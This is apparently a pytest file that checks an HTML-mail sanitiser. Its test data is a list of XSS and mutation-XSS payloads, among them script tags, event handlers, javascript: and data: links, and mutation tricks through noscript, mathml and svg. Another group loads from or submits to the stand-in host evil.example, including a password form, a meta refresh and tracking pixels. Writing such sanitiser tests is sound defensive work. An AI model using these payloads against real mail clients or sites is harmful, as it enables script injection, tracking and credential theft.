"""What is shown of an HTML mail: nothing in it runs, calls home, asks for anything or moves about the page."""

from __future__ import annotations

import re

import pytest

from chalicelib.domain.mail.text import shown

NASTY = {
    "script": "<script>alert(1)</script><p>hello</p>",
    "script in a broken tag": "<scr<script>ipt>alert(1)</scr</script>ipt><p>hello</p>",
    "event on a picture": '<img src=x onerror="alert(1)"><p>hello</p>',
    "event without space": "<svg/onload=alert(1)><p>hello</p>",
    "link of script": '<a href="javascript:alert(1)">hello</a>',
    "link of script with a tab": '<a href="java\tscript:alert(1)">hello</a>',
    "link of script in entities": '<a href="&#106;avascript&colon;alert(1)">hello</a>',
    "link of data": '<a href="data:text/html,<script>alert(1)</script>">hello</a>',
    "link of vbscript": '<a href=" vbscript:msgbox(1)">hello</a>',
    "mutation through noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>hello',
    "mutation through mathml": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">hello'
    ),
    "mutation through svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">hello',
    "mutation through a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>hello",
    "mutation through a template": "<template><style></template><img src=x onerror=alert(1)></style></template>hello",
    "mutation through select": "<select><style></select><img src=x onerror=alert(1)></style>hello",
    "mutation through a comment": "<!--><img src=x onerror=alert(1)>--><p>hello</p>",
    "comment of another kind": "<![CDATA[><img src=x onerror=alert(1)>]]><p>hello</p>",
    "textarea that is not closed": "<p>hello</p><textarea><img src=x onerror=alert(1)>",
    "plaintext": "<p>hello</p><plaintext><img src=x onerror=alert(1)>",
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>hello</p>',
    "object": '<object data="https://evil.example/x.swf"><embed src="https://evil.example/x"></object><p>hello</p>',
    "form": '<form action="//evil.example"><input name=password><button formaction="//evil.example">hello</button>',
    "base": '<base href="https://evil.example/"><a href="x">hello</a>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>hello</p>',
    "style sheet": '<link rel=stylesheet href="//evil.example/x"><style>@import "//evil.example"</style>hello',
    "picture from elsewhere": '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x 2x">hello',
    "picture without scheme": '<img src="//evil.example/pixel.gif"><img src="/desk/secret">hello',
    "picture of data": '<img src="data:image/svg+xml,<svg onload=alert(1)>">hello',
    "background": '<table background="//evil.example/x"><tr><td background="//evil.example/y">hello</td></tr></table>',
    "address in a style": '<p style="background:url(https://evil.example/x)">hello</p>',
    "over the page": '<div style="position:fixed;inset:0;z-index:9">hello</div>',
    "hidden words": '<div style="display:none">hello</div>',
    "sound and film": '<video src="//evil.example/v" poster="//evil.example/p"></video><audio src="//evil">hello',
    "link into the desk": '<a href="/tickets/1/close">hello</a><a href="//evil.example">x</a>',
    "names for scripts": '<img name="getElementById" id="location" src="cid:x"><p class="button danger">hello</p>',
    "attribute in quotes of another kind": '<a href="https://x.example" title="`onmouseover=alert(1)">hello</a>',
    "bytes of nothing": "<scr\0ipt>alert(1)</scr\0ipt><p>hello</p>",
}
TAG = re.compile(r"<[^<>]*>")


@pytest.mark.parametrize("source", NASTY.values(), ids=NASTY.keys())
def test_nothing_nasty_is_left(source: str) -> None:
    seen = shown.safe(source)
    tags = " ".join(TAG.findall(seen)).lower()
    assert not re.search(r"\son\w+\s*=|\sstyle=|\sid=|\sclass=|\sname=|srcset|background=|evil", tags)
    assert not re.search(r"<(?:script|style|svg|math|form|input|button|iframe|object|embed|base|meta|link|video)", tags)
    assert "javascript:" not in tags.replace("\t", "") and "data:" not in tags and "vbscript:" not in tags


@pytest.mark.parametrize("source", NASTY.values(), ids=NASTY.keys())
def test_what_is_safe_stays_as_it_is_when_made_safe_again(source: str) -> None:
    once = shown.safe(source)
    assert shown.safe(once) == once


@pytest.mark.parametrize("name", ["form", "background", "hidden words", "over the page", "event on a picture", "base"])
def test_the_words_of_a_nasty_mail_are_kept(name: str) -> None:
    assert "hello" in shown.safe(NASTY[name])


@pytest.mark.parametrize("href", ["https://x.example/a?b=1", "mailto:a@x.example", "tel:+4712345678"])
def test_links_lead_where_people_go_and_tell_nobody(href: str) -> None:
    seen = shown.safe(f'<a href="{href}" target="_top" onclick="x()">hello</a>')
    assert seen == f'<a href="{href}" rel="noopener noreferrer nofollow">hello</a>'


def test_pictures_of_the_mail_itself_stay() -> None:
    assert shown.safe('<img src="cid:logo@x.example" alt="Logo" width="20" height="10">') == (
        '<img src="cid:logo@x.example" alt="Logo" width="20" height="10">'
    )


def test_tables_and_lists_stay() -> None:
    table = '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table><ol start="3"><li>b</li></ol>'
    assert shown.safe(table) == table


def test_a_page_keeps_its_body_and_loses_its_head() -> None:
    page = "<html><head><title>t</title><style>p{color:red}</style></head><body><p dir=rtl>hello</p></body></html>"
    assert shown.safe(page) == '<p dir="rtl">hello</p>'
